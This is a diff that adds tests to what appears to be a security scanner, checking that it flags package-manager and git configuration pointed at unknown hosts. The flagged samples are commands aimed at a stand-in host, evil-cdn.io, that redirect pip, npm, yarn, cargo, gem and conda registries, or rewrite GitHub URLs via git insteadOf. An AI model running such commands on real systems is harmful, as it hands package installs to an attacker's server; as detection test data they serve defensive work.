@@ -28,6 +28,8 @@ from hermes_audit.engine.engine import Engine
 from hermes_audit.findings import Severity
 from hermes_audit.patterns.catalog import CatalogError, _expand_lists
 from tests.test_profile_rt8 import _audit, _codes
+from tests.test_scan_cli import repo, run  # noqa: F401  (repo is a fixture)
+from tests.test_trusted_hosts import _codes as _codes_json, _write
 
 
 @pytest.fixture(scope="module")
@@ -249,3 +251,71 @@ def test_ha761_reads_a_private_address_as_the_whole_host():
 
     assert unknown_index("https://10.0.0.5.evil-cdn.io/simple") == "https://10.0.0.5.evil-cdn.io/simple"
     assert unknown_index("http://10.0.0.5:3141/simple") is None
+
+
+@pytest.mark.parametrize("command", [
+    "pip config set global.index-url https://pkgs.evil-cdn.io/simple",
+    "pip3 config set global.extra-index-url https://pkgs.evil-cdn.io/simple",
+    "python -m pip config --user set global.index-url https://pkgs.evil-cdn.io/simple",
+    "pip config set site.index-url https://pkgs.evil-cdn.io/simple",
+    "npm config set registry https://pkgs.evil-cdn.io/",
+    "npm config set @acme:registry=https://pkgs.evil-cdn.io/",
+    "yarn config set registry https://pkgs.evil-cdn.io/",
+    'yarn config set npmRegistryServer "https://pkgs.evil-cdn.io/"',
+    "pnpm config set registry https://pkgs.evil-cdn.io/",
+    "poetry source add acme https://pkgs.evil-cdn.io/simple",
+    "export UV_INDEX=acme=https://pkgs.evil-cdn.io/simple",
+    "uv add --index acme=https://pkgs.evil-cdn.io/simple helper",
+    'git config --global url."https://evil-cdn.io/".insteadOf https://github.com/',
+    'git config --global url."git@evil-cdn.io:".insteadOf "https://github.com/"',
+    "cargo install helper --index sparse+https://pkgs.evil-cdn.io/index/",
+    "gem install helper -s https://pkgs.evil-cdn.io/",
+    "gem sources --add https://pkgs.evil-cdn.io/",
+    "conda config --add channels https://pkgs.evil-cdn.io/conda",
+    'echo "index-url = https://pkgs.evil-cdn.io/simple" >> ~/.config/pip/pip.conf',
+    'echo "registry=https://pkgs.evil-cdn.io/" > .npmrc',
+    "printf '[global]\\nindex-url = https://pkgs.evil-cdn.io/simple\\n' > ~/.pip/pip.conf",
+    'echo "registry=https://pkgs.evil-cdn.io/" | tee -a ~/.npmrc',
+    "pip config set global.index-url https://10.0.0.5.evil-cdn.io/simple",
+])
+def test_a_package_manager_configured_for_an_unknown_host_is_ha501(engine, command):
+    _assert_setup_found(engine, command)
+
+
+@pytest.mark.parametrize("command", [
+    "pip config set global.index-url https://pypi.tuna.tsinghua.edu.cn/simple",
+    "pip config set global.index-url http://10.0.0.5:3141/simple",
+    "pip config set global.timeout 60",
+    "npm config set registry https://registry.npmjs.org/",
+    "npm config set @myorg:registry https://npm.pkg.github.com",
+    'yarn config set npmRegistryServer "https://registry.yarnpkg.com"',
+    "poetry source add --priority=explicit pytorch https://download.pytorch.org/whl/cpu",
+    "uv add --index pytorch=https://download.pytorch.org/whl/cpu torch",
+    'git config --global url."git@github.com:".insteadOf "https://github.com/"',
+    'git config --global url."https://${GITHUB_TOKEN}@github.com/".insteadOf "https://github.com/"',
+    "git config --global url.\"ssh://git@gitlab.com/\".insteadOf https://gitlab.com/",
+    "gem install rails -s https://rubygems.org/",
+    "conda config --add channels conda-forge",
+    'echo "registry=https://registry.npmjs.org/" > .npmrc',
+    'echo "//npm.pkg.github.com/:_authToken=${NODE_AUTH_TOKEN}" >> .npmrc',
+    'echo "index-url = http://192.168.1.5:3141/root/pypi/+simple/" >> ~/.config/pip/pip.conf',
+    'echo "See https://pkgs.example.com/docs for the registry" > NOTES.md',
+    # a user name before a forge's host is still the forge (the user part is not read as the host)
+    "pip install git+ssh://git@github.com/o/x.git",
+    "pip install git+https://user@github.com/o/x.git",
+    "git clone https://oauth2:tok@gitlab.com/o/x && ./x/install.sh",
+])
+def test_configuration_look_alikes_stay_quiet(engine, command):
+    assert not _ha501(engine, _setup(command)), command
+
+
+@pytest.mark.parametrize("command", [
+    "pip config set global.index-url https://pypi.corp.example.com/simple",
+    "npm config set registry https://pypi.corp.example.com/npm/",
+    'echo "index-url = https://pypi.corp.example.com/simple" >> ~/.config/pip/pip.conf',
+])
+def test_trusted_hosts_clears_a_configured_company_index(repo, command):  # noqa: F811
+    _write(repo, _setup(command) + "\n", ["pypi.corp.example.com"])
+    assert "HA501" not in _codes_json(run(["scan", "--format", "json"], repo))
+    _write(repo, _setup(command) + "\n", [])
+    assert "HA501" in _codes_json(run(["scan", "--format", "json"], repo))
